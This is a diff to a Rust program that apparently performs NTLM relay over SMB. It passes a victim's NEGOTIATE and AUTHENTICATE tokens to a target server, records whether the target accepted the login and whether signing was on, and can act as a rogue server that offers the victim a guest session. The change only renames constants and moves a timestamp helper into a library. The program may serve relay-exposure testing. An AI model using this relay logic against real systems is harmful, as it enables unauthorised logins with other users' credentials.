@@ -15,6 +15,8 @@ use std::time::{Duration, SystemTime, UNIX_EPOCH};
 
 use anyhow::{anyhow, bail, Context};
 use serde::Serialize;
+use smb_core::auth::ntlm;
+use smb_core::codec::filetime_now;
 use smb_core::compound::split_chain;
 use smb_core::header::{flags, Command, Dialect, Header, NtStatus};
 use smb_core::messages::error::ErrorResponse;
@@ -372,7 +374,7 @@ async fn run(
     // 3. SESSION_SETUP round 1: NTLM NEGOTIATE -> target -> CHALLENGE -> victim.
     let victim_session_id = random_u64() | 1;
     let (h1, ss1) = victim.recv_session_setup().await?;
-    let first_token = gss::unwrap_initiator(&ss1.security_buffer, gss::NTLM_NEGOTIATE, None)
+    let first_token = gss::unwrap_initiator(&ss1.security_buffer, ntlm::NEGOTIATE_TYPE, None)
         .context("victim's first token")?;
     let (status, challenge_token) = target
         .session_setup(gss::wrap_first_for_target(
@@ -399,7 +401,7 @@ async fn run(
     let (h2, ss2) = victim.recv_session_setup().await?;
     let auth = gss::unwrap_initiator(
         &ss2.security_buffer,
-        gss::NTLM_AUTHENTICATE,
+        ntlm::AUTHENTICATE_TYPE,
         Some(&first_token.wrapping),
     )
     .context("victim's AUTHENTICATE")?;
@@ -410,10 +412,10 @@ async fn run(
         .await?;
     attempt.auth_status = Some(status.to_string());
     attempt.auth_accepted = status == NtStatus::SUCCESS;
-    attempt.guest = target.last_session_flags & 0x0001 != 0;
+    attempt.guest = target.last_session_flags & session_flags::IS_GUEST != 0;
     attempt.auth_response_signed = target.last_response_signed;
 
-    // The victim only ever sees a failed logon.
+    // What the victim is told: a failed logon, or (a rogue server) a guest session.
     match opts.victim_reply {
         VictimReply::Guest => {
             // A rogue server: "you are logged on as guest", a session with no key.
@@ -790,15 +792,6 @@ fn random_bytes<const N: usize>() -> [u8; N] {
 
 fn random_u64() -> u64 {
     u64::from_le_bytes(random_bytes())
-}
-
-/// Now as a FILETIME (100 ns ticks since 1601-01-01).
-fn filetime_now() -> u64 {
-    const EPOCH_DIFF_SECS: u64 = 11_644_473_600;
-    let d = SystemTime::now()
-        .duration_since(UNIX_EPOCH)
-        .unwrap_or_default();
-    (d.as_secs() + EPOCH_DIFF_SECS) * 10_000_000 + u64::from(d.subsec_nanos() / 100)
 }
 
 #[cfg(test)]
